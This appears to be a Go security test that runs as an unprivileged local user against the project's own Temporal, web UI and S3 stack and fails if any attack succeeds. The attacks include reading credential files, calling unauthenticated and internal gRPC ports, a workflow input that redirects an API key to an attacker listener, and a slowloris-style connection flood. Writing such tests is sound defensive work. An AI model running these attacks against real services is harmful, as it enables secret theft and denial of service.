//go:build attack

package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/rs/zerolog"
	commonpb "go.temporal.io/api/common/v1"
	taskqueuepb "go.temporal.io/api/taskqueue/v1"
	"go.temporal.io/api/workflowservice/v1"
	"go.temporal.io/sdk/client"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"

	"github.com/esclab/esclab/esc/democorpus"
	"github.com/esclab/esclab/experiments"
	"github.com/esclab/esclab/workers/stack/connect"
	"github.com/esclab/esclab/workflows"
	"github.com/esclab/esclab/workflows/lab"
)

// envAttack makes the test binary be the attacker; its value is a battlefield.
const envAttack = "ESCLAB_TEST_ATTACK"

// nobody is the other user of the machine.
const nobody = 65534

// battlefield is what any user of the machine can find out: where the data are,
// and the ports on which the stack listens.
type battlefield struct {
	Data, Temporal, UI, S3, Listener string
	Internal                         []string
}

// attempt is one attack: what was sent and what came back.
type attempt struct {
	Name, Sent, Back string
	Served           bool // it got what it should not get
}

// TestAttack lets another user of the machine loose on a stack that is up, and
// tells of each attack what was sent, what came back and what a listener of the
// attacker received.
func TestAttack(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root, to become another user")
	}
	ctx, stop := context.WithTimeout(t.Context(), 8*time.Minute)
	defer stop()
	data := t.TempDir()
	up, said := esclab(t, ctx, "up", "--data", data)
	if err := up.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = up.Process.Signal(syscall.SIGTERM)
		_ = up.Wait()
	}()
	info, err := waitForStack(ctx, data)
	if err != nil {
		t.Fatalf("%v\n%s", err, said)
	}
	received := make(chan string, 100)
	listener := listen(t, received)
	field := battlefield{Data: data, Temporal: info.Temporal, UI: info.UI, S3: info.S3.Endpoint, Listener: listener}
	known := map[string]bool{info.Temporal: true, strings.TrimPrefix(info.UI, "http://"): true, strings.TrimPrefix(info.S3.Endpoint, "http://"): true}
	for _, address := range listeningOf(t, up.Process.Pid) {
		if !known[address] {
			field.Internal = append(field.Internal, address)
		}
	}
	if len(field.Internal) < 4 {
		t.Errorf("found %q, want the ports of Temporal's internal services", field.Internal)
	}
	all := asNobody(t, ctx, field)
	all = append(all, withTheKey(t, ctx, info)...)
	all = append(all, downloaded(t, ctx, listener))
	var table strings.Builder
	for _, a := range all {
		if a.Served {
			t.Errorf("%s: %s was served: %s", a.Name, a.Sent, a.Back)
		}
		fmt.Fprintf(&table, "\n%-28s sent: %s\n%-28s back: %.160s", a.Name, a.Sent, "", a.Back)
	}
	t.Log(table.String())
	select {
	case got := <-received:
		t.Errorf("the attacker's listener received %q", got)
	default:
		t.Log("the attacker's listener received nothing")
	}
	if len(all) < 15 {
		t.Errorf("%d attacks were tried, want all of them", len(all))
	}
}

// listen takes down what arrives at a port of the attacker's.
func listen(t *testing.T, received chan<- string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			_ = conn.SetReadDeadline(time.Now().Add(time.Second))
			head := make([]byte, 512)
			n, _ := conn.Read(head)
			received <- string(head[:n])
			conn.Close()
		}
	}()
	return "http://" + l.Addr().String()
}

// listeningOf gives the addresses on which a process listens.
func listeningOf(t *testing.T, pid int) (all []string) {
	t.Helper()
	own := map[string]bool{}
	fds, err := filepath.Glob(fmt.Sprintf("/proc/%d/fd/*", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, fd := range fds {
		if link, err := os.Readlink(fd); err == nil && strings.HasPrefix(link, "socket:[") {
			own[strings.Trim(strings.TrimPrefix(link, "socket:"), "[]")] = true
		}
	}
	table, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/tcp", pid))
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(table)) {
		f := strings.Fields(line)
		var port int
		if len(f) < 10 || f[3] != "0A" || !own[f[9]] {
			continue
		}
		if _, err := fmt.Sscanf(f[1], "0100007F:%X", &port); err != nil {
			t.Errorf("the stack listens on %s, not on the loopback interface", f[1])
			continue
		}
		all = append(all, fmt.Sprintf("127.0.0.1:%d", port))
	}
	return all
}

// asNobody runs the attacker as another user.
func asNobody(t *testing.T, ctx context.Context, field battlefield) []attempt {
	t.Helper()
	dir, err := os.MkdirTemp("", "esclab-attack-*")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	program := filepath.Join(dir, "attacker")
	raw, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(program, raw, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	plan, err := json.Marshal(field)
	if err != nil {
		t.Fatal(err)
	}
	c := exec.CommandContext(ctx, program, "-test.run", "^TestAttacker$", "-test.v")
	c.Dir, c.Env = dir, []string{envAttack + "=" + string(plan), "HOME=" + dir}
	c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("the attacker: %v\n%s", err, out)
	}
	var all []attempt
	for line := range strings.Lines(string(out)) {
		if _, text, ok := strings.Cut(line, "ATTACK "); ok {
			var a attempt
			if err := json.Unmarshal([]byte(text), &a); err != nil {
				t.Fatalf("%v in %q", err, line)
			}
			all = append(all, a)
		}
	}
	return all
}

// TestAttacker is the attacker.
func TestAttacker(t *testing.T) {
	plan := os.Getenv(envAttack)
	if plan == "" {
		t.Skip("TestAttack starts it")
	}
	var f battlefield
	if err := json.Unmarshal([]byte(plan), &f); err != nil {
		t.Fatal(err)
	}
	if os.Getuid() != nobody {
		t.Fatalf("the attacker is user %d", os.Getuid())
	}
	tell := func(name, sent string, served bool, back any) {
		raw, err := json.Marshal(attempt{name, sent, fmt.Sprint(back), served})
		if err != nil {
			t.Fatal(err)
		}
		fmt.Printf("\nATTACK %s\n", raw)
	}
	for _, name := range []string{"", "temporal-key", "s3-credentials", "stack.json", "temporal.db", "lock"} {
		_, err := os.ReadFile(filepath.Join(f.Data, name))
		tell("data directory", "read DATA/"+name, err == nil, err)
	}
	for _, key := range []string{"", "Bearer made-up"} {
		for what, call := range map[string]func(context.Context, workflowservice.WorkflowServiceClient) error{
			"list the workflows": func(ctx context.Context, c workflowservice.WorkflowServiceClient) error {
				_, err := c.ListWorkflowExecutions(ctx, &workflowservice.ListWorkflowExecutionsRequest{Namespace: "default"})
				return err
			},
			"start a stage that asks " + f.Listener: func(ctx context.Context, c workflowservice.WorkflowServiceClient) error {
				_, err := c.StartWorkflowExecution(ctx, poisonous(f.Listener))
				return err
			},
		} {
			err := ask(t, f.Temporal, insecure.NewCredentials(), key, call)
			tell("Temporal, key "+fmt.Sprintf("%q", key), what, err == nil, err)
		}
	}
	for _, address := range f.Internal {
		for how, c := range map[string]credentials.TransportCredentials{
			"in plain text":              insecure.NewCredentials(),
			"by TLS without certificate": credentials.NewTLS(&tls.Config{InsecureSkipVerify: true}),
		} {
			err := ask(t, address, c, "", func(ctx context.Context, c workflowservice.WorkflowServiceClient) error {
				_, err := c.GetSystemInfo(ctx, &workflowservice.GetSystemInfoRequest{})
				return err
			})
			// An answer that there is no such service would be one, too.
			tell("internal port", how, err == nil || strings.Contains(err.Error(), "Unimplemented"), err)
		}
	}
	for _, r := range []struct{ method, path, body string }{
		{"GET", "/api/v1/namespaces/default/workflows", ""},
		{"GET", "/api/v1/namespaces/default/workflows/x/runs/y/history", ""},
		{"POST", "/api/v1/namespaces/default/workflows/stage", `{"workflowType":{"name":"Stage"},"taskQueue":{"name":"esclab-control"}}`},
		{"GET", connect.SessionPath + "?ticket=AAAA&to=/", ""},
	} {
		status, body := request(t, r.method, f.UI+r.path, r.body)
		tell("web UI", r.method+" "+r.path, status != http.StatusUnauthorized, fmt.Sprint(status, " ", body))
	}
	status, body := request(t, "GET", f.S3+"/esclab?list-type=2", "")
	tell("S3 store", "list without a signature", status == http.StatusOK, fmt.Sprint(status, " ", body))
	const held = 600
	left := holdOpen(t, strings.TrimPrefix(f.S3, "http://"), held)
	tell("S3 store", fmt.Sprintf("%d connections at a time with half a header", held), left > held/2, fmt.Sprint(left, " stay open"))
}

// holdOpen begins so many requests at a time and says how many connections the server
// has left open, once it has closed some.
func holdOpen(t *testing.T, address string, n int) (left int) {
	t.Helper()
	var conns []net.Conn
	for range n {
		conn, err := net.Dial("tcp", address)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\n"); err == nil {
			conns = append(conns, conn)
		}
	}
	_, _ = io.ReadAll(conns[0]) // until it is closed, as the oldest goes first
	for _, conn := range conns {
		if err := conn.SetReadDeadline(time.Now().Add(time.Millisecond)); err != nil {
			t.Fatal(err)
		}
		if _, err := io.ReadAll(conn); errors.Is(err, os.ErrDeadlineExceeded) {
			left++
		}
	}
	return left
}

// poisonous starts a stage whose input has dialogues and a key sent elsewhere.
func poisonous(listener string) *workflowservice.StartWorkflowExecutionRequest {
	input := fmt.Sprintf(`{"stage":{"name":"judge","kind":"judge","version":1,"params":{"judge":"openai","base_url":%q},"inputs":{}},"judge":{"api_key_env":"HOME"}}`, listener)
	return &workflowservice.StartWorkflowExecutionRequest{
		Namespace: "default", WorkflowId: "attack", RequestId: "attack", WorkflowType: &commonpb.WorkflowType{Name: workflows.StageName},
		TaskQueue: &taskqueuepb.TaskQueue{Name: "esclab-control"},
		Input:     &commonpb.Payloads{Payloads: []*commonpb.Payload{{Metadata: map[string][]byte{"encoding": []byte("json/plain")}, Data: []byte(input)}}},
	}
}

func ask(t *testing.T, address string, c credentials.TransportCredentials, authorization string, call func(context.Context, workflowservice.WorkflowServiceClient) error) error {
	t.Helper()
	conn, err := grpc.NewClient(address, grpc.WithTransportCredentials(c))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	ctx, stop := context.WithTimeout(t.Context(), 10*time.Second)
	defer stop()
	if authorization != "" {
		ctx = metadata.AppendToOutgoingContext(ctx, "authorization", authorization)
	}
	return call(ctx, workflowservice.NewWorkflowServiceClient(conn))
}

func request(t *testing.T, method, url, body string) (int, string) {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	text, err := io.ReadAll(io.LimitReader(answer.Body, 200))
	if err != nil {
		t.Fatal(err)
	}
	return answer.StatusCode, string(bytes.TrimSpace(text))
}

// withTheKey is somebody who may start workflows and claims that another corpus
// has a known fingerprint.
func withTheKey(t *testing.T, ctx context.Context, info *connect.Info) []attempt {
	t.Helper()
	at, err := connect.Embedded(info)
	if err != nil {
		t.Fatal(err)
	}
	c, err := connect.Dial(ctx, at, zerolog.Nop())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	p, err := experiments.Prepare("testdata/micro.yaml", nil, experiments.OS(democorpus.JSON()))
	if err != nil {
		t.Fatal(err)
	}
	stage := p.Stages[0]
	stage.Params = bytes.Replace(stage.Params, []byte(`"split_seed":`), []byte(`"split_seed":9`), 1)
	run, err := c.ExecuteWorkflow(ctx, client.StartWorkflowOptions{ID: workflows.StageWorkflowID(stage.Name, stage.Fingerprint), TaskQueue: "esclab-control"}, workflows.StageName,
		workflows.StageInput{Stage: stage, Queues: workflows.Queues{Control: "esclab-control", CPU: "esclab-cpu", GPU: "esclab-gpu"},
			Checkpoint: p.Experiment.Checkpoint, HeartbeatSeconds: 30})
	if err != nil {
		t.Fatal(err)
	}
	err = lab.RootCause(run.Get(ctx, nil))
	return []attempt{{"with the key", "another corpus under a known fingerprint", fmt.Sprint(err), err == nil || !strings.Contains(err.Error(), "is not that of its kind, parameters and inputs")}}
}

// downloaded is an experiment from elsewhere that names an endpoint and a secret.
func downloaded(t *testing.T, ctx context.Context, listener string) attempt {
	t.Helper()
	c, said := esclab(t, ctx, "run", "testdata/micro.yaml", "--data", t.TempDir(), "--set", "judge.kind=openai", "--set", "judge.model=m",
		"--set", "judge.base_url="+listener, "--set", "judge.api_key_env=HOME")
	_ = c.Run()
	return attempt{"a downloaded experiment", "judge.base_url of the attacker, judge.api_key_env HOME", strings.TrimSpace(said.String()), c.ProcessState.ExitCode() != exitUsage}
}
